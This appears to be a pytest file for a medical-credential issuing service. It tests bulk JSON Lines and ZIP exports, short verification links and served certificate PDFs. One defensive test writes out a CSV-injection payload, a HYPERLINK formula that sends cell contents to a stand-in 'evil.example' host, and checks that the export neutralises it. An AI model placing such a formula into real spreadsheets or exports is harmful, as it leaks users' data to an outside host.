"""Bulk downloads over the API (JSON Lines and ZIP), the short verification address, and the
certificate as served: REVOKED stamped, the short address printed."""

from __future__ import annotations

import csv
import io
import json
import zipfile

from PIL import Image
from pypdf import PdfReader
from web_fixtures import PUBLIC_URL, WebWorld

from issuer.institution_logo import set_logo
from issuer.short_links import short_code
from verifier.pipeline import Verifier

EXPORTS = "/api/v1/institutions/sim/exports"


def _jsonl(response) -> list[dict]:
    assert response.status_code == 200, response.text
    assert response.mimetype == "application/jsonl" and response.is_streamed
    assert ".jsonl" in response.headers["Content-Disposition"]
    return [json.loads(line) for line in response.data.decode().splitlines()]


def test_jsonl_export_streams_every_credential_of_the_selection_and_they_verify(
    world: WebWorld, client
) -> None:
    anchored = [world.issue(f"bulk{i}@example.org", f"Bulk {i}") for i in range(3)]
    world.service.anchor_now("sim")
    revoked = world.issue("gone@example.org")
    world.service.revoke(revoked, "issued-in-error")
    pending = world.issue("later@example.org")
    world.issue("elsewhere@example.org", slug="other")
    auth = world.auth("revoke")

    # anchorFirst false: the pending one stays pending (by default a download anchors first)
    everything = _jsonl(
        client.post(EXPORTS, json={"all": True, "format": "jsonl", "anchorFirst": False}, headers=auth)
    )
    ids = [c["id"].rsplit("/", 1)[-1] for c in everything]
    assert {*anchored, revoked, pending} <= set(ids) and len(ids) == len(set(ids))
    assert all("elsewhere" not in json.dumps(c) for c in everything)  # only this institution's

    def selection(state: str) -> set[str]:
        body = {"all": True, "format": "jsonl", "state": state, "anchorFirst": False}
        return {c["id"].rsplit("/", 1)[-1] for c in _jsonl(client.post(EXPORTS, json=body, headers=auth))}

    assert set(anchored) <= selection("anchored") and revoked not in selection("anchored")
    assert selection("revoked") == {revoked}
    assert pending in selection("pending") and not set(anchored) & selection("pending")
    # by default the download anchors first: nothing is left pending
    _jsonl(client.post(EXPORTS, json={"all": True, "format": "jsonl"}, headers=auth))
    assert pending not in selection("pending") and pending in selection("anchored")
    future = {"all": True, "format": "jsonl", "since": "2999-01-01"}
    assert client.post(EXPORTS, json=future, headers=auth).data == b""

    chosen = _jsonl(client.post(EXPORTS, json={"ids": anchored[:2], "format": "jsonl"}, headers=auth))
    assert [c["id"].rsplit("/", 1)[-1] for c in chosen] == anchored[:2]
    verifier = Verifier(world.verifier_config)
    for credential in chosen:  # exported as served: with the anchor proof, VALID
        assert verifier.verify_bytes(json.dumps(credential)).status == "VALID"

    bad = client.post(EXPORTS, json={"all": True, "format": "jsonl", "since": "last week"}, headers=auth)
    assert bad.status_code == 400 and "since" in bad.get_json()["detail"]
    bad = client.post(EXPORTS, json={"all": True, "format": "csv"}, headers=auth)
    assert bad.status_code == 400 and "format" in bad.get_json()["detail"]


def test_zip_export_renders_qr_codes_and_certificates_only_when_asked(world: WebWorld, client) -> None:
    ids = [world.issue(f"zip{i}@example.org") for i in range(2)]
    auth = world.auth("issue")
    plain = client.post(EXPORTS, json={"ids": ids}, headers=auth)
    assert plain.status_code == 200 and plain.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(plain.data)) as zipped:
        names = zipped.namelist()
    assert {f"credentials/{i}.json" for i in ids} <= set(names)
    assert not [n for n in names if n.startswith(("certificates/", "qr/"))]
    with_pdfs = client.post(EXPORTS, json={"ids": ids, "certificates": True, "qrCodes": True}, headers=auth)
    with zipfile.ZipFile(io.BytesIO(with_pdfs.data)) as zipped:
        assert {f"certificates/{i}.pdf" for i in ids} | {f"qr/{i}.png" for i in ids} <= set(zipped.namelist())


def test_zip_manifest_cells_are_never_spreadsheet_formulas(world: WebWorld, client) -> None:
    """CSV injection: a recipient named like a formula is written to manifest.csv as text."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    issued = world.issue("formula@example.org", formula)
    response = client.post(EXPORTS, json={"ids": [issued]}, headers=world.auth("issue"))
    with zipfile.ZipFile(io.BytesIO(response.data)) as zipped:
        rows = list(csv.DictReader(io.StringIO(zipped.read("manifest.csv").decode("utf-8"))))
    assert [row["recipient_name"] for row in rows] == ["'" + formula]


def test_short_address_redirects_to_the_verifier_and_is_printed(world: WebWorld, client) -> None:
    credential_id = world.issue("short@example.org", "Short Link")
    code = short_code(credential_id)
    assert len(code) == 13
    answer = client.get(f"/v/{code}")
    assert answer.status_code == 302
    assert answer.headers["Location"].startswith(f"{PUBLIC_URL}/verify?credential=")
    assert credential_id in answer.headers["Location"]
    assert client.get(f"/v/{code.upper().replace('-', '')}").status_code == 302  # as typed
    assert (
        client.get(f"/v/{code}", headers={"Accept": "*/*"}).headers["Location"] == answer.headers["Location"]
    )
    # a verifier asking for JSON (`medcred verify https://host/v/...`) is sent to the credential itself
    as_json = client.get(f"/v/{code}", headers={"Accept": "application/ld+json, application/json;q=0.9"})
    assert as_json.headers["Location"] == f"{PUBLIC_URL}/credentials/{credential_id}"
    assert "Accept" in as_json.headers["Vary"]
    followed = client.get(as_json.headers["Location"], headers={"Accept": "application/ld+json"})
    assert followed.get_json()["id"] == as_json.headers["Location"]
    assert client.get("/v/00000000-0000").status_code == 404
    assert client.get("/v/not-a-code").status_code == 404

    pdf = client.get(f"/credentials/{credential_id}/certificate.pdf")
    text = PdfReader(io.BytesIO(pdf.data)).pages[0].extract_text()
    host = PUBLIC_URL.removeprefix("https://")
    assert f"{host}/v/{code}" in text.replace("\n", "")
    assert "REVOKED" not in text
    world.service.revoke(credential_id, "withdrawn")
    revoked = client.get(f"/credentials/{credential_id}/certificate.pdf")
    assert "REVOKED" in PdfReader(io.BytesIO(revoked.data)).pages[0].extract_text()


def test_logo_catalog_image_and_credits_are_on_the_served_certificate(world: WebWorld, client) -> None:
    badge = io.BytesIO()
    Image.new("RGB", (64, 64), "#B08D57").save(badge, "PNG")
    definition = {
        "achievement": {
            "type": ["Achievement"],
            "name": "Paediatric Sedation Workshop",
            "description": "Safe procedural sedation of children.",
            "criteria": {"narrative": "Attended the workshop."},
            "achievementType": "Course",
            "creditsAvailable": 6,
        }
    }
    achievement = world.service.create_achievement(
        "sim", definition, image=badge.getvalue(), image_type="image/png"
    )
    issued = world.service.issue(
        "sim", None, "badge@example.org", name="Badge Holder", achievement=achievement.id
    )
    pdf = client.get(f"/credentials/{issued.id}/certificate.pdf")
    page = PdfReader(io.BytesIO(pdf.data)).pages[0]
    text = page.extract_text()
    assert "Paediatric Sedation Workshop" in text and "CREDITS" in text and "6" in text
    assert len(page.images) == 2  # the QR code and the achievement's image, read from the catalog
    logo = io.BytesIO()
    Image.new("RGB", (120, 40), "#1F3A5F").save(logo, "PNG")
    set_logo(world.service.db, "sim", logo.getvalue())
    page = PdfReader(io.BytesIO(client.get(f"/credentials/{issued.id}/certificate.pdf").data)).pages[0]
    assert len(page.images) == 3  # and the institution's logo


def test_institution_achievement_issued_by_roster_exported_in_bulk_verifies_everywhere(
    world: WebWorld, client
) -> None:
    """Issue 11's done-when, the bulk part: a catalog achievement with credits, a result and evidence,
    issued by roster and anchored, comes out of the JSON Lines export VALID in MedCred and verified by
    the reference JavaScript Data Integrity libraries; its certificate shows the credits."""
    from pipeline.reference_verifier import reference_verify
    from test_web_issue11_done import ACHIEVEMENT, ROSTER

    created = client.post(
        "/api/v1/institutions/sim/achievements", json=ACHIEVEMENT, headers=world.auth("admin")
    )
    assert created.status_code == 201, created.text
    roster = client.post(
        "/api/v1/institutions/sim/rosters",
        data=ROSTER.encode(),
        headers={"Content-Type": "text/csv", **world.auth("issue")},
    )
    assert roster.status_code == 201, roster.text
    ids = [c["id"] for c in roster.get_json()["credentials"]]
    exported = _jsonl(
        client.post(EXPORTS, json={"ids": ids, "format": "jsonl"}, headers=world.auth("issue"))
    )  # anchors first (the default): the permanent files
    assert [c["id"].rsplit("/", 1)[-1] for c in exported] == ids
    verifier = Verifier(world.verifier_config)
    for credential in exported:
        assert len(credential["proof"]) == 2
        assert credential["credentialSubject"]["creditsEarned"] == 12
        assert len(credential["credentialSubject"]["result"]) == 2
        assert verifier.verify_bytes(json.dumps(credential)).status == "VALID"
    assert len(exported[0]["evidence"]) == 2  # Amara's row gave two evidence URLs
    assert [c["verified"] for c in reference_verify(exported)] == [True] * len(exported)
    archive = client.post(EXPORTS, json={"ids": ids[:1], "certificates": True}, headers=world.auth("issue"))
    with zipfile.ZipFile(io.BytesIO(archive.data)) as zipped:
        text = PdfReader(io.BytesIO(zipped.read(f"certificates/{ids[0]}.pdf"))).pages[0].extract_text()
    assert "Amara Okafor" in text and "CREDITS" in text and "12" in text
